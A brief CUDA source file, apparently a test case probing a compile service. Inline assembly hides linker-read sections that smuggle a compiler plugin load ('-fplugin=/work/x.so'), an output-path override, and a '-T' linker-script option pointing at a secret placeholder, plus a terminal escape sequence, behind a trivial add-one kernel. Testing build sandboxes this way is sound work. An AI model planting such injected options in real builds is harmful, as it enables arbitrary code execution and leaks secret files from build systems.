// AC/CE | own | sections that the linker reads: warnings, options of another compiler, a plugin | 
#ifndef __CUDA_ARCH__
asm(".section .gnu.warning.puts\n.string \"\\033[2J@SECRET@\"\n.section .gnu.lto_.opts,\"e\"\n.string \"-fplugin=/work/x.so -o /work/plus_one.ptx\"\n.section .linker-options\n.string \"-T\", \"@SECRET@\"\n.text");
#endif
__global__ void k(int *out, const int *in, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
extern "C" void plus_one(int *out, const int *in, int n) {
    if (n) k<<<(n + 255) / 256, 256>>>(out, in, n);
}
